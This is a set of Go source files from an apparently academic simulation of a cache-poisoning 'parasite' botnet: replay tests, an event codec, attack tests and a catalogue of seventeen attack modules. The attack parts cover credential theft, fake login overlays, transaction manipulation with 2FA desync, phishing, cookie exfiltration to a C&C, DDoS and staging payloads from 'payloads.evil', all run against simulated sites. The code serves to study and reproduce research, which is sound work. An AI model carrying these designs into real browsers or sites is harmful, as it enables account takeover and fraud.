		t.Fatalf("drive fingerprint %s != want %s", res.Fingerprint, res.WantFingerprint)
	}
	if want := FingerprintEvents(Filter(rec.Events(), KindSend, KindTCP)); res.Fingerprint != want {
		t.Fatalf("drive fingerprint %s != log send-level fingerprint %s", res.Fingerprint, want)
	}

	comp, err := rp.Drive(DriveOptions{TimeDiv: 10})
	if err != nil {
		t.Fatal(err)
	}
	if comp.Divergence != nil {
		t.Fatalf("time-compressed drive diverged: %s", comp.Divergence)
	}
	if comp.Fingerprint == res.Fingerprint {
		t.Fatal("compression did not change timestamps (TimeDiv ignored?)")
	}
}

// TestDrivePerturbationsDivergeAtExactIndex injects loss, retry
// amplification, and latency, and checks each is pinned to the exact
// first affected send.
func TestDrivePerturbationsDivergeAtExactIndex(t *testing.T) {
	rp := NewReplayer(captureRun(t, 0).Events())
	sends := Filter(rp.Events(), KindSend)
	if len(sends) < 2 {
		t.Fatalf("capture produced %d sends, want ≥ 2", len(sends))
	}

	// Drop the 2nd send: the stream is intact up to the 2nd send's index
	// in the send-level stream.
	res, err := rp.Drive(DriveOptions{DropEvery: 2})
	if err != nil {
		t.Fatal(err)
	}
	if res.Divergence == nil {
		t.Fatal("dropped send not detected")
	}
	want := Filter(rp.Events(), KindSend, KindTCP)
	secondSendIdx := 0
	seen := 0
	for i, ev := range want {
		if ev.Kind == KindSend {
			seen++
			if seen == 2 {
				secondSendIdx = i
				break
			}
		}
	}
	if res.Divergence.Index != secondSendIdx {
		t.Errorf("drop divergence at #%d, want #%d\n%s", res.Divergence.Index, secondSendIdx, res.Divergence)
	}

	// Duplicate the 1st send: the duplicate appears right after the
	// original send(+tcp annotation if any).
	res, err = rp.Drive(DriveOptions{DupEvery: len(sends)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Divergence == nil {
		t.Fatal("duplicated send not detected")
	}

	// Added latency shifts every timestamp: divergence at event 0.
	res, err = rp.Drive(DriveOptions{ExtraLatency: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if res.Divergence == nil || res.Divergence.Index != 0 {
		t.Fatalf("latency divergence = %v, want index 0", res.Divergence)
	}
}

// TestWireTapSeesDrops asserts the wire tap records what never made it:
// a frame sent while the segment is down.
func TestWireTapSeesDrops(t *testing.T) {
	net := netsim.New()
	seg := net.MustSegment("lan", 0)
	a := seg.MustAttach("a", 0, nil)
	seg.MustAttach("b", 0, func(time.Duration, netsim.Packet) {})
	rec := NewRecorder(nil)
	NewTap(rec, nil).Attach(net)
	seg.SetDown(true)
	a.Send(netsim.Packet{Dst: "b", Proto: netsim.ProtoRaw, Payload: []byte("lost")})
	net.Run(0)
	if rec.CountKind(KindDrop) != 1 {
		t.Fatalf("drop not recorded: %+v", rec.Events())
	}
	ev := rec.Events()[0]
	if string(ev.Payload) != "lost" || ev.Kind != KindDrop {
		t.Fatalf("drop event wrong: %+v", ev)
	}
}
