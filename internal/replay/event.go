// Package replay is the deterministic wire-event record/replay
// subsystem — the "truth via replay" debugging story for the simulated
// kill chain.
//
// A Recorder taps a live netsim.Network (netsim.SetWireTap) and captures
// every simulated wire event — frame send, delivery, tap delivery, drop,
// a derived annotation for every TCP segment, and every covert C&C
// exchange — into an append-only, length-prefixed binary log with a
// canonical encoding. The encoding is canonical in the strict sense:
// encoding an event always produces the same bytes, so a streaming
// SHA-256 over the record stream (the divergence fingerprint) identifies
// a run's behaviour exactly. Two runs are byte-identical if and only if
// their fingerprints match, at any scenario-fleet worker count.
//
// A Checker replays verification live: attach it to a fresh run of the
// same scenario and it compares every event, as it happens, against the
// recorded log, reporting the first behavioural divergence at its exact
// event index with a before/after field diff — a regression bisects to
// one frame.
//
// A Replayer re-drives the recorded traffic itself: every recorded send
// is re-injected, at its recorded virtual time, into a live
// netsim.Network whose endpoints are stubs (the outbound legs of the
// original run do not execute), optionally time-compressed or perturbed
// with injected latency, loss, or retry amplification. The re-captured
// send stream must reproduce the log's send-level fingerprint — proving
// the log is complete and the codec lossless — while any perturbation
// surfaces as a divergence at the exact event index it first altered.
package replay

import (
	"encoding/binary"
	"fmt"
	"time"
)

// Kind classifies a replay event.
type Kind uint8

// Event kinds. The wire kinds mirror netsim.WireKind; KindTCP is a
// derived annotation emitted after every TCP send (parsed header fields,
// so protocol-level drift is visible without decoding payloads); KindCNC
// records one covert-channel exchange routed by the C&C master. KindDup
// is the extra delivery a faulty link's duplication model produced
// (netsim.WireDupDeliver) — clean-wire logs never contain it, so its
// addition leaves historical fingerprints untouched.
const (
	KindSend Kind = iota + 1
	KindDeliver
	KindTap
	KindDrop
	KindTCP
	KindCNC
	KindDup
)

// String returns the conventional name of the event kind.
func (k Kind) String() string {
	switch k {
	case KindSend:
		return "send"
	case KindDeliver:
		return "deliver"
	case KindTap:
		return "tap"
	case KindDrop:
		return "drop"
	case KindTCP:
		return "tcp"
	case KindCNC:
		return "cnc"
	case KindDup:
		return "dup"
	default:
		return fmt.Sprintf("kind(%d)", uint8(k))
	}
}

// Event is one captured simulation event. Every field is always encoded
// (zero-valued where not applicable to the kind), so the binary form is
// canonical: one event, one byte sequence.
type Event struct {
	Kind Kind
	// Time is the virtual time the event occurred at.
	Time time.Duration
	// Segment, Src, Dst, Proto address the frame (wire kinds).
	Segment string
	Src     string
	Dst     string
	Proto   uint8
	// Size is the payload size on the wire. Payload carries the bytes
	// themselves for sends and drops only — deliveries reference the
	// same frame, so recording the size keeps the log small while the
	// stream stays byte-exact.
	Size    uint32
	Payload []byte

	// TCP annotation fields (KindTCP).
	SrcPort uint16
	DstPort uint16
	Seq     uint32
	Ack     uint32
	Flags   uint8

	// C&C exchange fields (KindCNC).
	Bot    string
	Path   string
	Status uint16
}

// String renders the event for divergence reports and CLI output.
func (e Event) String() string {
	ms := float64(e.Time.Microseconds()) / 1000
	switch e.Kind {
	case KindTCP:
		return fmt.Sprintf("t=%.3fms tcp %s:%d→%s:%d seq=%d ack=%d flags=%#x len=%d",
			ms, e.Src, e.SrcPort, e.Dst, e.DstPort, e.Seq, e.Ack, e.Flags, e.Size)
	case KindCNC:
		return fmt.Sprintf("t=%.3fms cnc bot=%s %s → %d (%dB)", ms, e.Bot, e.Path, e.Status, e.Size)
	default:
		return fmt.Sprintf("t=%.3fms %s %s %s→%s proto=%d %dB", ms, e.Kind, e.Segment, e.Src, e.Dst, e.Proto, e.Size)
	}
}

// appendTo appends the event's canonical encoding to dst. The layout is
// fixed — every field in declaration order, little-endian, strings
// u16-length-prefixed, payload u32-length-prefixed — so identical events
// always encode to identical bytes.
func (e *Event) appendTo(dst []byte) []byte {
	dst = append(dst, byte(e.Kind))
	dst = binary.LittleEndian.AppendUint64(dst, uint64(e.Time))
	dst = appendString(dst, e.Segment)
	dst = appendString(dst, e.Src)
	dst = appendString(dst, e.Dst)
	dst = append(dst, e.Proto)
	dst = binary.LittleEndian.AppendUint32(dst, e.Size)
	dst = binary.LittleEndian.AppendUint32(dst, uint32(len(e.Payload)))
	dst = append(dst, e.Payload...)
	dst = binary.LittleEndian.AppendUint16(dst, e.SrcPort)
	dst = binary.LittleEndian.AppendUint16(dst, e.DstPort)
	dst = binary.LittleEndian.AppendUint32(dst, e.Seq)
	dst = binary.LittleEndian.AppendUint32(dst, e.Ack)
	dst = append(dst, e.Flags)
	dst = appendString(dst, e.Bot)
	dst = appendString(dst, e.Path)
	dst = binary.LittleEndian.AppendUint16(dst, e.Status)
	return dst
}

// decodeEvent parses one canonical event body. It returns the bytes
// consumed so a reader can verify the record length matched.
func decodeEvent(b []byte) (Event, int, error) {
	var e Event
	d := decoder{b: b}
	e.Kind = Kind(d.u8())
	e.Time = time.Duration(d.u64())
	e.Segment = d.str()
	e.Src = d.str()
	e.Dst = d.str()
	e.Proto = d.u8()
	e.Size = d.u32()
	e.Payload = d.bytes()
	e.SrcPort = d.u16()
	e.DstPort = d.u16()
	e.Seq = d.u32()
	e.Ack = d.u32()
	e.Flags = d.u8()
	e.Bot = d.str()
	e.Path = d.str()
	e.Status = d.u16()
	if d.err != nil {
		return Event{}, 0, d.err
	}
	return e, d.off, nil
}

func appendString(dst []byte, s string) []byte {
	dst = binary.LittleEndian.AppendUint16(dst, uint16(len(s)))
	return append(dst, s...)
}

// decoder walks a canonical event body, latching the first error.
type decoder struct {
	b   []byte
	off int
	err error
}

func (d *decoder) take(n int) []byte {
	if d.err != nil {
		return nil
	}
	if d.off+n > len(d.b) {
		d.err = fmt.Errorf("replay: truncated event body at offset %d", d.off)
		return nil
	}
	out := d.b[d.off : d.off+n]
	d.off += n
	return out
}

func (d *decoder) u8() uint8 {
	b := d.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

func (d *decoder) u16() uint16 {
	b := d.take(2)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint16(b)
}

func (d *decoder) u32() uint32 {
	b := d.take(4)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint32(b)
}

func (d *decoder) u64() uint64 {
	b := d.take(8)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint64(b)
}

func (d *decoder) str() string {
	n := int(d.u16())
	b := d.take(n)
	if b == nil {
		return ""
	}
	return string(b)
}

func (d *decoder) bytes() []byte {
	n := int(d.u32())
	b := d.take(n)
	if b == nil || n == 0 {
		return nil
	}
	return append([]byte(nil), b...)
}
