package attacks_test

import (
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"

	"masterparasite/internal/apps"
	"masterparasite/internal/attacker"
	"masterparasite/internal/attacks"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	"masterparasite/internal/parasite"
)

// lab assembles a scenario with all five applications, an armed master
// and a parasite strain carrying the full Table V module catalogue.
type lab struct {
	t        *testing.T
	s        *core.Scenario
	bank     *apps.Bank
	mail     *apps.Webmail
	social   *apps.Social
	exchange *apps.Exchange
	chat     *apps.Chat
	cfg      *parasite.Config
}

func newLab(t *testing.T) *lab {
	t.Helper()
	s, err := core.NewScenario(core.Config{})
	if err != nil {
		t.Fatal(err)
	}
	l := &lab{
		t: t, s: s,
		bank:     apps.NewBank("bank.example"),
		mail:     apps.NewWebmail("mail.example"),
		social:   apps.NewSocial("social.example"),
		exchange: apps.NewExchange("exchange.example"),
		chat:     apps.NewChat("chat.example"),
	}
	s.AddHandler(l.bank.Host, l.bank.Handler())
	s.AddHandler(l.mail.Host, l.mail.Handler())
	s.AddHandler(l.social.Host, l.social.Handler())
	s.AddHandler(l.exchange.Host, l.exchange.Handler())
	s.AddHandler(l.chat.Host, l.chat.Handler())

	l.cfg = parasite.NewConfig("pv", "bot-v", core.MasterHost)
	l.cfg.Propagate = false
	attacks.Install(l.cfg)
	s.Registry.Add(l.cfg)

	// Arm the master for every app's persistent script.
	for host, path := range map[string]string{
		l.bank.Host: "/js/bank.js", l.mail.Host: "/js/mail.js",
		l.social.Host: "/js/social.js", l.exchange.Host: "/js/exchange.js",
		l.chat.Host: "/js/chat.js",
	} {
		s.Master.AddTarget(attacker.Target{
			Name: host + path, Kind: attacker.KindJS, ParasitePayload: "pv",
			Original: []byte("function genuineApp(){}"),
		})
	}
	return l
}

// visit loads a page with the app's wiring installed.
func (l *lab) visit(host, path string, wire func(*browser.Page)) *browser.Page {
	l.t.Helper()
	page, err := l.s.VisitWired(host, path, wire)
	if err != nil {
		l.t.Fatalf("visit %s%s: %v", host, path, err)
	}
	return page
}

// command queues a Table V command for the next page load.
func (l *lab) command(cmd string) { l.s.CNC.QueueCommand("bot-v", []byte(cmd)) }

// loot fetches an exfiltrated stream.
func (l *lab) loot(stream string) ([]byte, bool) { return l.s.CNC.Upload("bot-v", stream) }

func TestCatalogCoversTableV(t *testing.T) {
	t.Parallel()
	cat := attacks.Catalog()
	if len(cat) != 17 {
		t.Fatalf("catalog = %d rows", len(cat))
	}
	counts := map[attacks.Category]int{}
	cia := map[attacks.CIA]int{}
	for _, a := range cat {
		counts[a.Category]++
		cia[a.CIA]++
		if a.Module == nil {
			t.Errorf("%s has no implementation", a.Name)
		}
		if a.Targets == "" || a.Exploit == "" || a.Requirements == "" {
			t.Errorf("%s row incomplete", a.Name)
		}
	}
	if counts[attacks.VictimBrowser] != 12 || counts[attacks.VictimOS] != 3 || counts[attacks.VictimNetwork] != 2 {
		t.Fatalf("category split = %v", counts)
	}
	if cia[attacks.Confidentiality] == 0 || cia[attacks.Integrity] == 0 || cia[attacks.Availability] == 0 {
		t.Fatalf("CIA split = %v", cia)
	}
	if _, ok := attacks.ByName("steal-login"); !ok {
		t.Fatal("ByName failed")
	}
	if _, ok := attacks.ByName("ghost"); ok {
		t.Fatal("ByName found a ghost")
	}
}

func TestStealLoginFromBank(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("steal-login|")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })

	// The user logs in; the parasite's hook sees the credentials first.
	form := page.Doc.FindByID("login")
	if form == nil {
		t.Fatal("no login form")
	}
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()

	loot, ok := l.loot("creds")
	if !ok {
		t.Fatal("no creds exfiltrated")
	}
	var got map[string]string
	if err := json.Unmarshal(loot, &got); err != nil {
		t.Fatalf("loot not JSON: %v", err)
	}
	if got["user"] != "alice" || got["pass"] != "hunter2" || got["site"] != l.bank.Host {
		t.Fatalf("loot = %v", got)
	}
	// The genuine login still went through: stealth preserved.
	if len(l.bank.Accounts["alice"].User) == 0 {
		t.Fatal("account lost")
	}
}

func TestFakeLoginWhenAlreadyLoggedIn(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)
	l.command("steal-login|")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	fake := page.Doc.FindByID("login")
	if fake == nil || fake.Attr("class") != "fake-login-overlay" {
		t.Fatal("no fake login overlay on the logged-in page")
	}
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "retyped-secret"})
	l.s.Run()
	loot, ok := l.loot("creds")
	if !ok || !strings.Contains(string(loot), "retyped-secret") {
		t.Fatalf("fake login loot = %q ok=%v", loot, ok)
	}
}

// login performs a clean bank login so later pages are authenticated.
func login(t *testing.T, l *lab) {
	t.Helper()
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()
	if _, ok := l.s.Victim.Cookies().Get(l.bank.Host, "sid"); !ok {
		t.Fatal("login did not establish a session")
	}
}

func setAndSubmit(t *testing.T, page *browser.Page, formID string, values map[string]string) {
	t.Helper()
	form := page.Doc.FindByID(formID)
	if form == nil {
		t.Fatalf("form %s missing", formID)
	}
	for k, v := range values {
		if !dom.SetFormValue(form, k, v) {
			t.Fatalf("form %s has no input %s", formID, k)
		}
	}
	if _, _, err := page.Doc.Submit(formID); err != nil {
		t.Fatalf("submit %s: %v", formID, err)
	}
}

func TestTransactionManipulationAnd2FABypass(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)

	// The master orders the manipulation; the user initiates an innocent
	// transfer to grandma.
	l.command("transaction-manipulation|iban=XX99 EVIL,amount=9000")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	if page.Doc.FindByID("transfer") == nil {
		t.Fatal("no transfer form — login lost?")
	}
	setAndSubmit(t, page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"})
	l.s.Run()

	// The user's intended transfer was exfiltrated, the attacker's is
	// pending at the bank.
	if loot, ok := l.loot("manipulated-tx"); !ok || !strings.Contains(string(loot), "GRANDMA") {
		t.Fatalf("manipulated-tx loot = %q ok=%v", loot, ok)
	}

	// OTP confirmation page: the parasite rewrites the displayed details
	// so the user sees their own transfer (the 2FA desync of Table V).
	l.command("bypass-2fa|Transfer 50 EUR to DE22 GRANDMA")
	confirm := l.visit(l.bank.Host, "/confirm", func(p *browser.Page) { l.bank.Wire(p, nil) })
	details := confirm.Doc.FindByID("pending-details")
	if details == nil {
		t.Fatal("no pending details")
	}
	if got := details.TextContent(); !strings.Contains(got, "GRANDMA") {
		t.Fatalf("user sees %q — desync failed", got)
	}
	// The user, reassured, enters the correct OTP.
	setAndSubmit(t, confirm, "otp", map[string]string{"code": "123456"})
	l.s.Run()

	if len(l.bank.Transfers) != 1 {
		t.Fatalf("transfers = %d", len(l.bank.Transfers))
	}
	tx := l.bank.Transfers[0]
	if tx.ToIBAN != "XX99 EVIL" || tx.Amount != 9000 || !tx.Authorized {
		t.Fatalf("bank committed %+v — attack failed", tx)
	}
}

func TestWebsiteDataReadsEmails(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// Log into webmail.
	page := l.visit(l.mail.Host, "/", func(p *browser.Page) { l.mail.Wire(p, nil) })
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()

	l.command("website-data|")
	l.visit(l.mail.Host, "/", func(p *browser.Page) { l.mail.Wire(p, nil) })
	loot, ok := l.loot("website-data")
	if !ok {
		t.Fatal("no website data")
	}
	if !strings.Contains(string(loot), "confidential report") {
		t.Fatalf("loot misses email body: %q", loot)
	}
}

func TestWebsiteDataReadsBankBalance(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)
	l.command("website-data|")
	l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	loot, ok := l.loot("website-data")
	if !ok || !strings.Contains(string(loot), "10000 EUR") {
		t.Fatalf("balance loot = %q ok=%v", loot, ok)
	}
}

func TestSendPhishingThroughChat(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("send-phishing|urgent: click evil.example/login")
	l.visit(l.chat.Host, "/", func(p *browser.Page) { l.chat.Wire(p, nil) })
	l.s.Run()
	if len(l.chat.Sent) != 3 {
		t.Fatalf("phishing messages sent = %d, want 3 (one per contact)", len(l.chat.Sent))
	}
	for _, m := range l.chat.Sent {
		if !strings.Contains(m.Text, "evil.example") {
			t.Fatalf("message %+v lacks the phishing text", m)
		}
	}
	if loot, ok := l.loot("phished"); !ok || !strings.Contains(string(loot), "bob") {
		t.Fatalf("phished loot = %q", loot)
	}
}

func TestBrowserDataExfiltration(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.Victim.LocalStorage(l.chat.Host)["jwt"] = "eyJ-token"
	l.s.Victim.Cookies().Set(l.chat.Host, "theme", "dark")
	l.command("browser-data|")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("browser-data")
	if !ok {
		t.Fatal("no browser data")
	}
	s := string(loot)
	if !strings.Contains(s, "eyJ-token") || !strings.Contains(s, "theme=dark") || !strings.Contains(s, "Chrome") {
		t.Fatalf("loot = %s", s)
	}
}

func TestPersonalDataRequiresPermission(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("personal-data|microphone")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("sensor-microphone"); ok {
		t.Fatal("microphone captured without permission")
	}
	// Grant the permission on the infected origin and retry.
	l.s.Victim.LocalStorage(l.chat.Host)["perm:microphone"] = "granted"
	l.command("personal-data|microphone")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("sensor-microphone"); !ok {
		t.Fatal("no capture despite granted permission")
	}
}

func TestStealComputeMines(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("steal-compute|500")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("mined")
	if !ok || !strings.Contains(string(loot), "iterations=500") {
		t.Fatalf("mined loot = %q", loot)
	}
}

func TestClickjackingAndAdInjection(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("clickjacking|bait.example/prize")
	page := l.visit(l.chat.Host, "/", nil)
	if page.Doc.FindByID("cj-overlay") == nil {
		t.Fatal("no clickjacking overlay")
	}
	l.command("ad-injection|ads.evil/banner.png")
	page2 := l.visit(l.chat.Host, "/", nil)
	found := false
	for _, img := range page2.Doc.FindByTag("img") {
		if img.Attr("src") == "ads.evil/banner.png" {
			found = true
		}
	}
	if !found {
		t.Fatal("no injected ad")
	}
}

func TestDDoSFloodsTarget(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.AddPage("victim-site.example", "/", "<html><body>up</body></html>",
		map[string]string{"Cache-Control": "no-store"})
	l.command("ddos|victim-site.example|20")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("ddos-report"); !ok || !strings.Contains(string(loot), "requests=20") {
		t.Fatalf("ddos report = %q", loot)
	}
	hits := 0
	for i := 0; i < 20; i++ {
		hits += l.s.Served("victim-site.example/?x=" + strconv.Itoa(i))
	}
	if hits != 20 {
		t.Fatalf("target received %d requests, want 20", hits)
	}
}

func TestSpectreReadsPlantedSecret(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.Victim.LocalStorage(l.chat.Host)["spectre-secret"] = "LAYOUT:0xdeadbeef"
	l.command("spectre|")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("spectre")
	if !ok || string(loot) != "LAYOUT:0xdeadbeef" {
		t.Fatalf("spectre loot = %q", loot)
	}
}

func TestRowhammerNeedsVulnerableDRAM(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("rowhammer|5000")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("rowhammer"); ok {
		t.Fatal("rowhammer succeeded on mitigated hardware")
	}
	l.s.Victim.LocalStorage(l.chat.Host)["dram"] = "vulnerable"
	l.command("rowhammer|5000")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("rowhammer"); !ok || !strings.Contains(string(loot), "bitflip") {
		t.Fatalf("rowhammer loot = %q", loot)
	}
}

func TestZeroDayStagesPayload(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// The payload host is attacker-controlled, so it serves permissive
	// CORS headers and the parasite can read the exploit bytes.
	l.s.AddPage("payloads.evil", "/cve.bin", strings.Repeat("\x90", 64),
		map[string]string{"Cache-Control": "no-store", "Access-Control-Allow-Origin": "*"})
	l.command("zero-day|payloads.evil/cve.bin")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("zero-day")
	if !ok || !strings.Contains(string(loot), "64 bytes") {
		t.Fatalf("zero-day loot = %q", loot)
	}
}

func TestInternalNetworkScan(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// Two internal devices exist; one candidate does not resolve.
	l.s.AddPage("router.local", "/favicon.ico", "icon", nil)
	l.s.AddPage("printer.local", "/favicon.ico", "icon", nil)
	l.command("attack-internal|router.local,printer.local")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("internal-hosts")
	if !ok {
		t.Fatal("no scan result")
	}
	var hosts []string
	if err := json.Unmarshal(loot, &hosts); err != nil {
		t.Fatal(err)
	}
	if len(hosts) != 2 {
		t.Fatalf("hosts = %v", hosts)
	}
}

func TestDDoSInternal(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.AddPage("iot-cam.local", "/", "cam", map[string]string{"Cache-Control": "no-store"})
	l.command("ddos-internal|iot-cam.local|10")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("internal-ddos-report"); !ok || !strings.Contains(string(loot), "requests=10") {
		t.Fatalf("internal ddos = %q", loot)
	}
}

func TestSideChannelBetweenTabs(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("side-channel|send")
	l.visit(l.chat.Host, "/", nil)
	l.command("side-channel|recv")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("side-channel"); !ok || !strings.HasPrefix(string(loot), "beat@") {
		t.Fatalf("side channel loot = %q", loot)
	}
}

func TestModuleErrorsDoNotBreakPage(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("bypass-2fa|x") // no pending confirmation on this page
	page := l.visit(l.chat.Host, "/", nil)
	if page == nil {
		t.Fatal("page broke")
	}
	var reqErr error = attacks.ErrRequiresOpenApp
	if !errors.Is(reqErr, attacks.ErrRequiresOpenApp) {
		t.Fatal("sentinel error identity broken")
	}
}
