// Package attacks implements the Table V taxonomy: the attack modules the
// master loads into its parasites, categorised per target (victim
// browser, victim OS, victim network) and per security property
// (confidentiality, integrity, availability). Every row of the table has
// a working module implemented against the simulated applications of
// internal/apps.
package attacks

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

// CIA is the security property a row targets.
type CIA int

// Security properties.
const (
	Confidentiality CIA = iota + 1
	Integrity
	Availability
)

// String renders the Table V letter.
func (c CIA) String() string {
	switch c {
	case Confidentiality:
		return "C"
	case Integrity:
		return "I"
	case Availability:
		return "A"
	default:
		return "?"
	}
}

// Category is the Table V target grouping.
type Category string

// Table V categories.
const (
	VictimBrowser Category = "Victim Browser"
	VictimOS      Category = "Victim OS"
	VictimNetwork Category = "Victim Network"
)

// Attack is one Table V row with its working implementation.
type Attack struct {
	Name         string
	Category     Category
	CIA          CIA
	Targets      string
	Exploit      string
	Requirements string
	Module       parasite.Module
}

// Errors modules report when their Table V requirements are unmet.
var (
	ErrRequiresLogin      = errors.New("attacks: user is not logged in")
	ErrRequiresOpenApp    = errors.New("attacks: target application not open")
	ErrRequiresPermission = errors.New("attacks: browser permission not granted")
)

// Catalog returns every Table V row. Modules are stateless; bind them to
// a parasite.Config via Install.
func Catalog() []Attack {
	return []Attack{
		{
			Name: "steal-login", Category: VictimBrowser, CIA: Confidentiality,
			Targets:      "Social networks, web mail, online banking, crypto-exchanges",
			Exploit:      "Hook login form submit events; exfiltrate via img-src C&C; show fake login when already logged in",
			Requirements: "wait for login, or present fake login form",
			Module:       stealLogin,
		},
		{
			Name: "browser-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Cookies, LocalStorage", Exploit: "Access via Browser API",
			Requirements: "none", Module: browserData,
		},
		{
			Name: "personal-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Geolocation, microphone, webcam", Exploit: "Access via Browser API",
			Requirements: "authorization by an attacked domain", Module: personalData,
		},
		{
			Name: "website-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Financial status, chats, emails", Exploit: "Access via DOM",
			Requirements: "none", Module: websiteData,
		},
		{
			Name: "side-channel", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Side channels between browser tabs", Exploit: "Timing, CPU usage",
			Requirements: "none", Module: sideChannel,
		},
		{
			Name: "bypass-2fa", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Google Authenticator, TAN",
			Exploit:      "Desynchronise knowledge between server and client: manipulate the data and interfaces the user sees",
			Requirements: "no out-of-band transaction detail confirmation",
			Module:       bypass2FA,
		},
		{
			Name: "transaction-manipulation", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Online banking, crypto exchanges",
			Exploit:      "User believes they authorise their transaction; they accept the attacker's",
			Requirements: "no out-of-band transaction detail confirmation",
			Module:       transactionManipulation,
		},
		{
			Name: "send-phishing", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Web mail, social networks, WhatsApp Web",
			Exploit:      "Harvest contacts from the DOM, send personalised phishing",
			Requirements: "target application open in a tab",
			Module:       sendPhishing,
		},
		{
			Name: "steal-compute", Category: VictimBrowser, CIA: Availability,
			Targets: "Crypto-currency mining, hash cracking, distributed scraping",
			Exploit: "Use CPU/GPU for computations", Requirements: "none",
			Module: stealCompute,
		},
		{
			Name: "clickjacking", Category: VictimBrowser, CIA: Integrity,
			Targets: "Non-infected sites", Exploit: "Full DOM access: overlay invisible UI",
			Requirements: "none", Module: clickjacking,
		},
		{
			Name: "ad-injection", Category: VictimBrowser, CIA: Integrity,
			Targets: "Inject ads in websites the victims visit", Exploit: "DOM injection at resolver scale",
			Requirements: "none", Module: adInjection,
		},
		{
			Name: "ddos", Category: VictimBrowser, CIA: Availability,
			Targets: "Other sites", Exploit: "Web-based request floods (images, sockets)",
			Requirements: "none", Module: ddos,
		},
		{
			Name: "spectre", Category: VictimOS, CIA: Confidentiality,
			Targets: "CPU cache via timing", Exploit: "Timing side channels read cached data",
			Requirements: "none", Module: spectre,
		},
		{
			Name: "rowhammer", Category: VictimOS, CIA: Confidentiality,
			Targets: "RAM", Exploit: "Charge leaks in memory cells; privilege escalation",
			Requirements: "no hardware rowhammer mitigation", Module: rowhammer,
		},
		{
			Name: "zero-day", Category: VictimOS, CIA: Integrity,
			Targets: "The client system", Exploit: "Parasite loads 0-day exploits and launches them",
			Requirements: "none", Module: zeroDay,
		},
		{
			Name: "attack-internal", Category: VictimNetwork, CIA: Integrity,
			Targets:      "Insecure routers and internal IoT devices",
			Exploit:      "WebRTC + JS scan of the internal network (sonar.js style)",
			Requirements: "none", Module: attackInternal,
		},
		{
			Name: "ddos-internal", Category: VictimNetwork, CIA: Availability,
			Targets: "Devices in the targeted internal network", Exploit: "Infected clients overload internal devices",
			Requirements: "none", Module: ddosInternal,
		},
	}
}

// Install binds every catalogued module to a parasite strain.
func Install(cfg *parasite.Config) {
	for _, a := range Catalog() {
		cfg.Modules[a.Name] = a.Module
	}
}

// ByName finds a catalogued attack.
func ByName(name string) (Attack, bool) {
	for _, a := range Catalog() {
		if a.Name == name {
			return a, true
		}
	}
	return Attack{}, false
}

// --- module implementations -------------------------------------------

// stealLogin hooks the login form; with the user already logged in (no
// login form in the DOM) it plants a fake login form instead.
func stealLogin(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	form := doc.FindByID("login")
	if form == nil {
		// Already logged in: present the fake login screen of Table V.
		fake := dom.NewElement("form")
		fake.SetAttr("id", "login")
